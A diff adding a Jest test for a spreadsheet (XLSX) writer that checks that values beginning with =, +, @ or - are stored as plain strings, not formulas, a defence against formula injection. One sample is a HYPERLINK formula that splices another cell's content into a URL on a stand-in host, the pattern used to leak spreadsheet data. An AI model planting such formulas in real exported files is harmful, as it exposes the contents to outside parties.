@@ -56,4 +56,24 @@ describe('XlsxWriter', () => {
     });
     expect(workbook.worksheets.map((sheet) => sheet.name)).toEqual(['a_b_c', 'A_B_C(2)', 'x'.repeat(31)]);
   });
+
+  it('writes a name that looks like a formula as a string cell, in text and figure columns alike', async () => {
+    const hostile = '=HYPERLINK("http://x"&C2,"y")';
+    const workbook = await written((xlsx) => {
+      const sheet = xlsx.sheet('表', [
+        { header: '名称', width: 10, type: TEXT },
+        { header: '值', width: 10, type: decimal(2) },
+      ]);
+      sheet.row([hostile, '+SUM(1,2)']);
+      sheet.row(['@A1', '-1+1'], 'total');
+      sheet.commit();
+    });
+    const sheet = workbook.getWorksheet('表');
+    const cells = [sheet?.getCell('A2'), sheet?.getCell('B2'), sheet?.getCell('A3'), sheet?.getCell('B3')];
+    expect(cells.map((cell) => cell?.value)).toEqual([hostile, '+SUM(1,2)', '@A1', '-1+1']);
+    for (const cell of cells) {
+      expect(cell?.type).toBe(ExcelJS.ValueType.String);
+      expect(cell?.formula).toBeUndefined();
+    }
+  });
 });
